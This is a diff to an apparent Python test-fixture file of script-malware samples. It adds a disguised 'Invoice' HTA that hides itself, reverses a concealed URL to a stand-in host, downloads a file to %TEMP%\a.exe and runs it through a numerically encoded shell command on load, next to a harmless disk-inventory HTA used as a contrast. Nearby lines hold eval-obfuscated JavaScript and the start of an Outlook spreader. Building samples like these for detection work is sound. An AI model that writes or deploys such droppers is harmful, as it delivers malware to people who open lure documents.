@@ -39,6 +39,42 @@ PIECES_JS = "var t = [];\n" + ''.join("t[%d] = '%s';\n" % (i, p) for i, p in enu
     "var q = ''; for (var i in t) q += t[i]; eval(q);\n"
 ODD_JS = ''.join("var xqzwkt%dr%d = %d;\n" % (i, i * 7, i) for i in range(40)) + "var u = given(xqzwkt1r7); eval(u + '');\n"
 ENCODED_JSE = screnc.encode("var u = given(1); eval(u + '');\r\n")
+# What a page fetches stands in an element, back to front, and what it runs in numbers.
+PAGE_HTA = """<html><head><title>Invoice</title><hta:application id="a" windowstate="minimize" showintaskbar="no">
+<script language="VBScript">
+Function Turned(id): Turned = StrReverse(document.getElementById(id).innerText): End Function
+Function Made(s): For Each n In Split(s, "."): Made = Made & Chr(n - 7): Next: End Function
+</script></head>
+<body onload="vbscript:Begin"><div id="w" style="display:none">tad.a/dilavni.elpmaxe//:ptth</div><input type="hidden" id="k" value="%s">
+<script language="VBScript">
+Sub Begin
+  Set h = CreateObject("MSXML2.XMLHTTP")
+  h.Open "GET", Turned("w"), False
+  h.Send
+  Set s = CreateObject("ADODB.Stream")
+  p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%%TEMP%%") & "\\a.exe"
+  s.Type = 1: s.Open: s.Write h.responseBody: s.SaveToFile p, 2
+  Execute Made(k.value)
+  self.close
+End Sub
+</script></body></html>
+""" % '.'.join(str(ord(c) + 7) for c in 'CreateObject("WScript.Shell").Run p, 0')
+# Neighbour: a small tool of the office, which asks WMI and shows a list.
+TOOL_HTA = """<html><head><title>Inventory</title><hta:application id="a" applicationname="Inventory" border="thin">
+<script language="VBScript">
+Sub Window_OnLoad
+  window.resizeTo 480, 320
+  Set w = GetObject("winmgmts:root\\cimv2")
+  For Each d In w.ExecQuery("SELECT * FROM Win32_LogicalDisk")
+    t = t & d.DeviceID & " " & d.FreeSpace & "<br>"
+  Next
+  document.getElementById("list").innerHTML = t
+End Sub
+Sub Help_OnClick
+  MsgBox "Drives and what is free on them. Questions: " & mail.innerText
+End Sub
+</script></head><body><div id="list"></div><input type="button" name="Help" value="Help"><span id="mail">it@corp.example</span></body></html>
+"""
 SPREADS_VBS = """Set o = CreateObject("Outlook.Application")
 Set n = o.GetNameSpace("MAPI")
 For Each l In n.AddressLists
